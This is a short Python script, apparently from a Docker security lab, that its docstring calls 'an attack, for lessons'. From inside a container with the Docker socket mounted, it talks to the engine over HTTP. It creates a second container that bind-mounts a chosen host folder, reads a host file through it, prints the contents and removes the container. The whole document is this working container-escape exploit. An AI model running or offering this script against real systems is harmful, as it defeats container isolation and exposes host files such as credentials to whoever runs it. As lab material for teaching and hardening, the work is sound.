"""Read a file of the host from a container that has only Docker's socket.

    docker run -v /var/run/docker.sock:/var/run/docker.sock ... \\
        python - FOLDER FILE < host_file.py

This is an attack, for lessons. It needs nothing but Python: it speaks to the
engine as `docker` does, in HTTP, and asks for a second container that has the
folder as a bind mount.
"""

import http.client
import json
import socket
import sys


def main(folder: str, file: str) -> None:
    """Print what a second container reads in the host's folder."""
    engine = http.client.HTTPConnection("engine")
    engine.sock = socket.socket(socket.AF_UNIX)
    engine.sock.connect("/var/run/docker.sock")

    def ask(method: str, path: str, **body: object) -> bytes:
        kind = {"Content-Type": "application/json"}
        engine.request(method, path, json.dumps(body), kind)
        return engine.getresponse().read()

    made = ask(
        "POST",
        "/containers/create",
        Image="python:3.13-slim",
        Cmd=["cat", f"/host/{file}"],
        Tty=True,  # so that the log is plain text
        HostConfig={"Binds": [f"{folder}:/host:ro"]},
        Labels={"dockerlab.lesson": "secure_run", "dockerlab.by": "lab"},
    )
    container = f"/containers/{json.loads(made)['Id']}"
    ask("POST", f"{container}/start")
    ask("POST", f"{container}/wait")
    print(ask("GET", f"{container}/logs?stdout=1").decode().strip())
    ask("DELETE", container)


if __name__ == "__main__":
    main(*sys.argv[1:])
